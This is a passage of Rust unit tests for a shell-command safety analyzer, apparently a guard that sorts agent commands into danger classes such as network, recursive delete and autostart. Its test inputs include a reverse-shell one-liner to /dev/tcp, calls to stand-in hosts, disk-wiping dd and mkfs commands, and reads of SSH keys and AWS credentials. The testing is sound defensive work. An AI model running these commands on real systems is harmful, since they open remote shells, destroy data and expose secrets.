        let cases: &[(&str, &[Danger])] = &[
            // SECURITY.md E2/E3 and the brief's list
            ("git status; curl x", &[Network]), ("git log\ncurl x", &[Network]), ("echo $(curl x)", &[Network]),
            ("`id`", &[Opaque]), ("ls && rm -rf ~", &[RecursiveDelete, OutsideCwd]), ("ls > ~/.bashrc", &[BootAutostart, OutsideCwd]),
            ("env X=1 curl x", &[Opaque, Network]), ("$'\\x3b'", &[Opaque]), ("bash -c 'ls'", &[Opaque]), ("find . -exec rm {} \\;", &[Opaque]),
            ("xargs rm", &[Opaque]), ("git -c core.pager=sh log", &[Opaque]), ("cd /tmp && touch x", &[OutsideCwd]),
            ("git -C /other commit", &[OutsideCwd]), ("tar -C / -xf a.tar", &[OutsideCwd]), ("sudo ls", &[Admin]),
            ("pip install requests", &[PackageInstall]), ("npm i -g x", &[PackageInstall]), ("cargo install ripgrep", &[PackageInstall]),
            ("rm -rf build", &[RecursiveDelete]), ("rm -r -f x", &[RecursiveDelete]), ("wget http://x", &[Network]), ("ssh host", &[Network]),
            ("crontab -e", &[BootAutostart]), ("systemctl enable foo", &[BootAutostart]), ("echo x >> ~/.profile", &[BootAutostart, OutsideCwd]),
            ("cp a /etc/rc.local", &[OutsideCwd, BootAutostart]), ("touch ../outside", &[OutsideCwd]), ("curl\u{202e}x", &[Opaque]), ("echo 'x", &[Opaque]),
            // shell syntax
            ("echo \"x", &[Opaque]), ("X=1 ls", &[Opaque]), ("GIT_PAGER=sh git log", &[Opaque]), ("$CMD x", &[Opaque]), ("/usr/bin/cur? x", &[Opaque]),
            ("cat <<EOF", &[Opaque]), ("ls 2>&1 | tee /tmp/x", &[OutsideCwd]), ("a=$(curl x)", &[Network]), ("${PATH} x", &[Opaque]), ("eval 'curl x'", &[Opaque, Network]),
            ("bash -lc 'curl x'", &[Opaque, Network]), ("bash -o pipefail -c 'curl x'", &[Opaque, Network]), ("sh", &[Opaque]), ("env", &[Opaque]),
            ("echo $'\\x1b'", &[Opaque]),
            // program names and wrappers
            ("/usr/bin/curl x", &[Network]), ("'cu''rl' x", &[Network]), ("\\curl x", &[Network]), ("c\\url x", &[Network]), ("CURL.exe x", &[Network]),
            ("timeout 5 curl x", &[Network]), ("nice -n 5 nohup time wget x", &[Network]), ("command curl x", &[Network]), ("exec wget x", &[Opaque, Network]),
            ("busybox wget x", &[Network]), ("sudo -u root rm -rf /", &[Admin, RecursiveDelete, OutsideCwd]), ("su -c 'id'", &[Admin, Opaque]),
            // per-program rules
            ("find . -exec rm -rf {} +", &[Opaque, RecursiveDelete]), ("find . -delete", &[RecursiveDelete]), ("rm /*", &[RecursiveDelete, OutsideCwd]),
            ("git clean -fdx", &[RecursiveDelete]), ("git push origin main", &[Network]), ("git clone https://x/y", &[Network]),
            ("git config alias.x '!sh'", &[Opaque]), ("git ls-remote --upload-pack='touch x' .", &[Network, Opaque]), ("git --exec-path=/x status", &[Opaque]),
            ("python3 -m http.server", &[Network]), ("python3 -c 'print(1)'", &[Opaque]), ("python3 -W ignore -c 'x'", &[Opaque]),
            ("python3 -m pip install x", &[PackageInstall]), ("python3 fetch.py https://evil.example", &[Network]), ("node -e 'x'", &[Opaque]),
            ("perl -pie 's/a/b/' f", &[Opaque]), ("sed 's/x/y/e' f", &[Opaque]), ("sed -n '1w out' f", &[Opaque]), ("sed -i s/a/b/ /etc/hosts", &[OutsideCwd]),
            ("awk '{system(\"id\")}' f", &[Opaque]), ("rg --pre ./x foo", &[Opaque]), ("tar xf a.tar --to-command=sh", &[Opaque]), ("vim -c '!id' f", &[Opaque]),
            ("npx cowsay", &[PackageInstall]), ("yarn", &[PackageInstall]), ("apt-get install -y x", &[PackageInstall]), ("uv pip install x", &[PackageInstall]),
            ("chmod u+s x", &[Admin]), ("chmod 4755 x", &[Admin]), ("chown root:root x", &[Admin]), ("mkfs.ext4 /dev/sdb", &[RecursiveDelete, Admin]),
            ("dd if=/dev/zero of=/dev/sda", &[OutsideCwd]), ("dd of=~/.bashrc", &[OutsideCwd, BootAutostart]), ("touch $HOME/x", &[OutsideCwd]),
            ("touch a/../../x", &[OutsideCwd]), ("cp -t/etc x", &[OutsideCwd]), ("cp --target-directory=~ x", &[OutsideCwd]), ("ln -s /etc/passwd l", &[OutsideCwd]),
            ("make -C /x", &[OutsideCwd]), ("make -C/x", &[OutsideCwd]), ("cd", &[OutsideCwd]), ("cp x .config/autostart/", &[BootAutostart]),
            ("mkdir -p ~/.config/systemd/user", &[BootAutostart, OutsideCwd]), ("cp x .bash*", &[BootAutostart]), ("truncate -s 0 ~/.zshrc", &[BootAutostart]),
            ("cp hook .git/hooks/pre-commit", &[Opaque]), ("rsync -a x host:y", &[Network]), ("rsync -a --delete a/ b/", &[RecursiveDelete]),
            ("rsync -e 'sh -c x' a b", &[Opaque]), ("docker run x", &[Opaque]), ("ssh -o ProxyCommand=x h", &[Network, Opaque]), ("at now", &[BootAutostart, Opaque]),
            ("cat < /dev/tcp/evil/80", &[Network]), ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &[Network, Opaque]), ("busybox httpd", &[Network]),
        ];
        let mut bad = Vec::new();
        for (cmd, want) in cases {
            let r = analyze_shell(cmd);
            if !want.iter().all(|d| r.dangers.contains(d)) || !r.never_loosens() || r.reasons.is_empty() {
                bad.push(format!("{cmd:?}: expected {want:?}, got {:?} {:?}", r.dangers, r.reasons));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn safe_commands_are_clean() {
        let clean = [
            "ls -la", "git status", "cargo test", "cat src/main.rs", "grep -rn foo .", "echo hello", "python3 script.py", "npm test",
            "git log --oneline", "", "   ", "cargo build --release 2>&1", "ls >/dev/null 2>&1", "git diff HEAD~1", "rm file.txt", "cat ~/.bashrc",
            "command -v curl", "echo curl", "mkdir -p src/new", "cp a b", "cp -r src/* dst/", "git commit -m 'see https://x.org'", "ls # c; curl x",
            "rg -n 'fn main' src", "cargo clippy -- -D warnings", "echo '$(not expanded)'", "touch a/../b", "sed -n 1,5p web.txt", "sed -i s/a/b/ f",
            "git log --format='%H %s'", "ls -d /etc", "cat /etc/hosts", "bash script.sh", "systemctl status foo", "crontab -l", "npm run build",
            "echo a=b", "grep -C 3 x f", "pytest -q tests/", "ls ./*.rs", "wc -l < src/main.rs", "awk '{print $1}' f", "git add -A", "rmdir -p a/b", "[ -f x ]",
            "echo hi >&2", "c\"\"at x", "git config --get user.name", "ls -la > /dev/null",
            "echo ${PATH}", "ls &>/dev/null", "diff <(ls) x", "echo x > out.txt", "ls\necho hi", "cargo test 2>&1 | tail -5", "cd web && npm test", "sleep 2; echo done",
        ];
        let bad: Vec<String> = clean.iter().map(|c| (c, analyze_shell(c)))
            .filter(|(_, r)| r.never_loosens() || !r.reasons.is_empty() || r.has_control_chars)
            .map(|(c, r)| format!("{c:?} should be clean: {:?}", r.reasons)).collect();
        assert!(bad.is_empty(), "{}", bad.join("\n"));
    }

    #[test]
    fn argv_cases() {
        let cases: &[(&[&str], &[Danger])] = &[
            (&["bash", "-c", "ls"], &[Opaque]), (&["/bin/sh", "-c", "curl x"], &[Opaque, Network]), (&["curl", "x"], &[Network]),
            (&["env", "X=1", "ls"], &[Opaque]), (&["git", "-C", "/x", "status"], &[OutsideCwd]), (&["git", "-c", "core.pager=sh", "log"], &[Opaque]),
            (&["sudo", "curl", "x"], &[Admin, Network]), (&["ls", "\u{1b}[2J"], &[Opaque]), (&["touch", "../x"], &[OutsideCwd]), (&["rm", "-rf", "x"], &[RecursiveDelete]),
        ];
        for (v, want) in cases {
            let r = analyze_argv(&argv(v));
            for d in *want { assert!(r.dangers.contains(d), "{v:?}: expected {d:?}, got {r:?}"); }
        }
        for v in [&["ls", "; curl x"][..], &["echo", "$(curl x)"], &["git", "status"], &["cargo", "test"], &["ls", "*"], &[]] {
            assert!(!analyze_argv(&argv(v)).never_loosens(), "{v:?}");
        }
        assert!(analyze_argv(&argv(&["ls", "\u{1b}[2J"])).has_control_chars);
    }

    #[test]
    fn sensitive_mentions() {
        for cmd in ["cat ~/.ssh/id_rsa", "cat server.pem", "ls $HOME/.aws/credentials", "cat ~/.SSH/ID_RSA", "cp x ~/.tradewind/db", "cat a.key",
                    "cat ~/.netrc", "python -c \"open('/home/u/.ssh/id_rsa')\"", "cat ~/.gnupg/x", "openssl pkcs12 -in c.p12"] {
            assert!(!analyze_shell(cmd).sensitive_mentions.is_empty(), "{cmd:?}");
        }
        assert!(analyze_shell("cat ~/.ssh/id_rsa").dangers.is_empty());
        assert_eq!(analyze_argv(&argv(&["cat", "/home/u/.gnupg/x"])).sensitive_mentions, ["/home/u/.gnupg/x"]);
        assert!(analyze_shell("cat src/main.rs").sensitive_mentions.is_empty());
    }

    #[test]
    fn visible_rendering() {
        assert_eq!(visible("a\x1bb"), "a␛b");
        assert_eq!(visible("a\nb"), "a⏎b");
        assert_eq!(visible("x\u{202e}y"), "x<U+202E>y");
        assert_eq!(visible("\u{0}\u{7f}\r"), "␀␡␍");
        assert_eq!(visible("z\u{200b}\u{85}\u{a0}"), "z<U+200B><U+0085><U+00A0>");
        assert_eq!(visible("plain ascii\ttab é ✓"), "plain ascii\ttab é ✓");
        let r = analyze_shell("echo \u{1b}[31mred");
        assert!(r.has_control_chars && r.dangers.contains(&Opaque));
        assert!(r.reasons.iter().all(|x| !x.chars().any(is_invisible)));
    }

    #[test]
    fn garbage_never_panics() {
        let all: String = (0u32..=255).filter_map(char::from_u32).collect();
        let mut inputs = vec![all.clone(), "a".repeat(100_000), "$(".repeat(50_000), "(".repeat(100_000), "'".repeat(100_001), "`".repeat(100_001),
            "\\".repeat(100_001), "rm -rf /* ".repeat(10_000), "a;".repeat(50_000), "*".repeat(100_000), "${".repeat(50_000),
            "$(".repeat(20_000) + &")".repeat(20_000), "cp x ".to_string() + &".*?[".repeat(25_000), "bash -c ".repeat(20_000),
            "> ".repeat(50_000), "sed ".to_string() + &"s".repeat(100_000), "x=".repeat(50_000), "command ".repeat(12_000), "eval ".repeat(20_000),
            "find . -exec ".repeat(8_000), "sudo ".repeat(20_000), "\u{202e}".repeat(100_000)];
        for c in all.chars() { inputs.push(c.to_string()); inputs.push(format!("rm -{c} x{c}y")); }
        let mut seed = 0x9E37_79B9_7F4A_7C15u64;
        let alphabet: Vec<char> = "ab -/~.*?[]{}()$'\"`\\;&|<>=#\n\t\u{202e}\u{0}01cerm".chars().collect();
        for _ in 0..3000 {
            let len = (seed % 40) as usize;
            let s: String = (0..len).map(|_| { seed ^= seed << 13; seed ^= seed >> 7; seed ^= seed << 17; alphabet[(seed % alphabet.len() as u64) as usize] }).collect();
            inputs.push(s);
        }
        for s in &inputs {
            let r = analyze_shell(s);
            assert!(r.dangers.windows(2).all(|w| w[0] < w[1]));
            assert!(!r.has_control_chars || r.dangers.contains(&Opaque));
            assert!(r.dangers.is_empty() || !r.reasons.is_empty());
            assert!(r.reasons.len() <= MAX_REASONS + 7 && r.sensitive_mentions.len() <= MAX_MENTIONS);
            let _ = analyze_argv(&s.split(' ').map(str::to_string).collect::<Vec<_>>());
            let _ = visible(s);
        }
    }
}
